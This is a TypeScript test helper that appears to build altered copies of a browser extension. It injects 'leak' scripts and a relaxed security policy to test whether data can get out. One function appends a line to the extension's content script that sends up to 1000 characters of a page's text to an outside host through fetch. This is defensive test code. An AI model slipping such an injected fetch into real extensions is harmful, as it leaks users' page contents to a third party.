import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { chromeBuild } from '@/scripts/lib/ensure-build';
import { grantedCopy, type GrantedCopy } from '@/scripts/lib/granted';
import { inRoot } from '@/scripts/lib/root';

/** The ways out, as code. */
export const channelCode = readFileSync(inRoot('tests/wire/lenient/channels.js'), 'utf8');

/** Files put into a copy of the build, by where their code runs. */
export const leakPage = 'leak.html';
export const leakWorker = 'leak-worker.js';
const leakContent = 'leak-content.js';

/** As loose as a browser lets an extension be: it never lets scripts of other origins in. */
const loosest = "script-src 'self' 'wasm-unsafe-eval'; object-src 'self'";

/**
 * A copy of the build with every way out in it: in a page of its own, a worker, the background and a content script.
 * @param policy 'lenient' takes its content security policy away, 'own' leaves it as it is built
 */
export function withChannels(policy: 'lenient' | 'own', origin: string): GrantedCopy {
  const copy = grantedCopy(chromeBuild, [origin]);
  const at = (file: string) => join(copy.folder, file);
  writeFileSync(at(leakPage), '<!doctype html><title>x</title><body><script src="leak-page.js"></script>');
  writeFileSync(at('leak-page.js'), channelCode);
  writeFileSync(at(leakWorker), channelCode);
  writeFileSync(at(leakContent), channelCode);
  writeFileSync(at('background.js'), `${readFileSync(at('background.js'), 'utf8')}\n${channelCode}`);
  const manifest = JSON.parse(readFileSync(at('manifest.json'), 'utf8')) as Record<string, unknown>;
  if (policy === 'lenient') manifest['content_security_policy'] = { extension_pages: loosest };
  manifest['content_scripts'] = [
    { matches: [`${new URL(origin).protocol}//${new URL(origin).hostname}/*`], js: [leakContent] },
  ];
  writeFileSync(at('manifest.json'), JSON.stringify(manifest));
  return copy;
}

/** A copy of the build whose reader sends the words of the page out when it starts. */
export function withLeak(origin: string, host: string): GrantedCopy {
  const copy = grantedCopy(chromeBuild, [origin]);
  const file = join(copy.folder, 'content-scripts/page.js');
  const leak = `void fetch('http://${host}/?' + encodeURIComponent(document.body.innerText.slice(0, 1000)), { mode: 'no-cors' });`;
  writeFileSync(file, `${readFileSync(file, 'utf8')}\n${leak}`);
  return copy;
}
